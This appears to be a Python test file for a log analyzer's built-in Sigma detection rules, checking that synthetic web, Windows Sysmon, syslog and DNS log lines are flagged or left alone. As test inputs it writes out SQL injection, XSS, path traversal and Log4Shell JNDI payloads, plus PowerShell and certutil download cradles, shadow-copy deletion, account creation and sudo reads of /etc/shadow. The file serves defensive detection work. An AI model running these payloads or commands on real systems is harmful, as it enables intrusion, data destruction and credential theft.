"""The rules that Winnow ships: valid, complete, and right about what they are for."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from sigma.collection import SigmaCollection

import analyzers.rules
from analyzers.rules import RuleSet
from operators.formats import Decoder, FormatSettings, fields

FOLDER = Path(analyzers.rules.__file__).parent / "builtin"
FILES = sorted(FOLDER.glob("*.yml"))
RULES = RuleSet.load([FOLDER])
#: Rules and correlations.
EVERY = [*RULES.rules, *(each.rule for each in RULES.correlations)]
#: January 2024, µs.
NOW = 1_704_708_000_000_000


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.stem)
def test_a_rule_is_valid_and_tells_what_an_analyst_needs(path: Path) -> None:
    collection = SigmaCollection.from_yaml(path.read_text(), collect_errors=True)
    assert not collection.errors
    for rule in collection.rules:
        assert rule.id and rule.id.version == 4
        assert rule.title and rule.description and rule.level and rule.falsepositives and rule.date
        assert rule.author == "Winnow"


def test_all_rules_compile_for_log_sources_that_formats_yield() -> None:
    heads = [each.path for each in EVERY if each.id not in RULES.feeds.silent and not each.name]
    assert sorted(heads) == list(map(str, FILES))
    assert len(FILES) >= 15
    assert not RULES.problems
    assert not RULES.unserved()


def test_ids_and_titles_are_unique() -> None:
    assert len({rule.id for rule in EVERY}) == len({rule.title for rule in EVERY}) == len(EVERY)


def titles(format: str, *lines: bytes) -> list[set[str]]:
    """Return what the rules say about each line; those that only correlations refer to say nothing."""
    decoded = Decoder("t-0", FormatSettings(), format, "web-1").decode_batch(lines, range(len(lines)), NOW)
    assert not decoded.rejected
    said: list[set[str]] = [set() for _ in lines]
    for match in RULES.match_batch(decoded.events, fields):
        if match.rule.id not in RULES.feeds.silent:
            said[match.index].add(match.rule.title)
    return said


def access(*queries: str) -> list[set[str]]:
    return titles(
        "apache",
        *(
            f'192.0.2.9 - - [08/Jan/2024:10:00:00 +0000] "GET /p?x={query} HTTP/1.1" 200 99 "-" "Mozilla/5.0"'.encode()
            for query in queries
        ),
    )


@pytest.mark.parametrize(
    ("title", "payload"),
    [
        ("SQL injection in a URL", "1' OR '1'='1"),
        ("SQL injection in a URL", "-1 UNION ALL SELECT name, 2 FROM users"),
        ("SQL injection in a URL", "1;DROP TABLE users"),
        ("SQL injection in a URL", "1 AND SLEEP(5)"),
        ("SQL injection in a URL", "admin'--"),
        ("SQL injection in a URL", "1') ORDER BY 9#"),
        ("Cross-site scripting in a URL", "<script>alert(1)</script>"),
        ("Cross-site scripting in a URL", "<img src=x onerror=alert(1)>"),
        ("Path traversal in a URL", "../../../../etc/hosts"),
        ("Path traversal in a URL", "/etc/passwd"),
        ("Shell command in a URL", "8.8.8.8; cat /var/log/messages"),
        ("Shell command in a URL", "${jndi:ldap://192.0.2.1/a}"),
    ],
)
def test_an_attack_in_a_url_is_named_in_every_encoding(title: str, payload: str) -> None:
    encodings = [quote(payload, safe=""), quote(quote(payload, safe=""), safe=""), quote_plus(payload)]
    if "jndi" in payload:
        del encodings[1]
    for encoded, said in zip(encodings, access(*encodings), strict=True):
        assert title in said, encoded


@pytest.mark.parametrize(
    "query",
    [
        "union+jack+select+committee",
        "how+to+select+a+hotel+or+two",
        "O%27Reilly+or+Penguin",
        "it%27s+5+or+6+o%27clock",
        "order+by+phone",
        "drop+table+lamp",
        "id%3D5%26page%3D2",
        "script+fonts",
        "2024-01-01..2024-02-01",
        "cat+food%3B+dog+food",
        "%3Cb%3Ebold%3C%2Fb%3E",
    ],
)
def test_innocent_words_in_a_url_are_left_alone(query: str) -> None:
    assert access(query) == [set()]


def sysmon(image: str, command_line: str, parent: str = "C:\\\\Windows\\\\explorer.exe") -> bytes:
    return (
        '{"@timestamp":"2024-01-08T10:00:00.000Z","Hostname":"ws-1","SourceModuleType":"im_msvistalog",'
        '"SourceName":"Microsoft-Windows-Sysmon",'
        f'"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\\\Windows\\\\{image}",'
        f'"CommandLine":"{command_line}","ParentImage":"{parent}","User":"CORP\\\\anna"}}'
    ).encode()


@pytest.mark.parametrize(
    ("title", "image", "command_line"),
    [
        ("Encoded PowerShell command line", "powershell.exe", "powershell -e SQBFAFgAIAAoAE4AZQB3AC0A"),
        (
            "Encoded PowerShell command line",
            "powershell.exe",
            "powershell.exe -nop /EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A",
        ),
        ("PowerShell download cradle in a command line", "cmd.exe", "powershell iex (iwr http://192.0.2.1/a).Content"),
        ("Download by certutil or bitsadmin", "certutil.exe", "certutil /urlcache -f http://192.0.2.1/a a.exe"),
        ("Download by certutil or bitsadmin", "bitsadmin.exe", "bitsadmin /transfer j http://192.0.2.1/a C:\\\\a.exe"),
        ("Shadow copies deleted", "vssadmin.exe", "vssadmin.exe Delete Shadows /all /quiet"),
        ("User account created by a command", "net.exe", "net user guest2 Secret1 /add"),
        ("Domain administrators or controllers listed", "nltest.exe", "nltest /domain_trusts"),
    ],
)
def test_a_hostile_command_line_is_named(title: str, image: str, command_line: str) -> None:
    assert titles("windows_nxlog", sysmon(image, command_line)) == [{title}]


@pytest.mark.parametrize(
    ("image", "command_line"),
    [
        ("powershell.exe", "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\\\Scripts\\\\Export-Report.ps1"),
        ("powershell.exe", "powershell.exe -Command Invoke-WebRequest -Uri https://repo.example/a.zip -OutFile a.zip"),
        ("certutil.exe", "certutil -hashfile setup.exe SHA256"),
        ("vssadmin.exe", "vssadmin list shadows"),
        ("net.exe", "net use Z: \\\\\\\\fs-01\\\\share"),
    ],
)
def test_an_administrators_command_line_is_left_alone(image: str, command_line: str) -> None:
    assert titles("windows_nxlog", sysmon(image, command_line)) == [set()]


def test_word_that_starts_a_shell_is_named() -> None:
    word = "C:\\\\Program Files\\\\Microsoft Office\\\\WINWORD.EXE"
    assert titles("windows_nxlog", sysmon("cmd.exe", "cmd.exe /c dir", word)) == [
        {"Office program starts a shell or script host"}
    ]


def test_root_by_password_is_named_and_by_key_is_not() -> None:
    line = "<86>Jan  8 10:00:00 web-1 sshd[7]: Accepted {} for {} from 192.0.2.4 port 40112 ssh2"
    lines = [
        line.format(*which).encode() for which in (("password", "root"), ("publickey", "root"), ("password", "anna"))
    ]
    assert titles("syslog", *lines) == [{"Root logged in over SSH with a password"}, set(), set()]


def test_sudo_to_a_shell_is_named_and_a_service_restart_is_not() -> None:
    line = "<86>Jan  8 10:00:00 web-1 sudo[7]:     anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND={}"
    commands = (
        "/bin/bash",
        "/usr/bin/cat /etc/shadow",
        "/usr/bin/systemctl restart apache2",
        "/usr/bin/less /var/log/syslog",
    )
    shell = {"Shell or credential file by sudo"}
    assert titles("syslog", *(line.format(command).encode() for command in commands)) == [shell, shell, set(), set()]


def test_long_random_names_are_named_and_ordinary_ones_are_not() -> None:
    def query(name: str) -> bytes:
        head = (
            '{"_path":"dns","ts":1704708000.0,"uid":"C1","id.orig_h":"10.0.0.5","id.orig_p":5,"id.resp_h":"10.0.0.1",'
        )
        return f'{head}"id.resp_p":53,"query":"{name}"}}'.encode()

    names = ("a" * 60 + "." + "b" * 30 + ".t.example.org", "www.riverbank.example", "a" * 60 + ".example.org")
    assert titles("zeek_json", *map(query, names)) == [{"Very long DNS query"}, set(), set()]
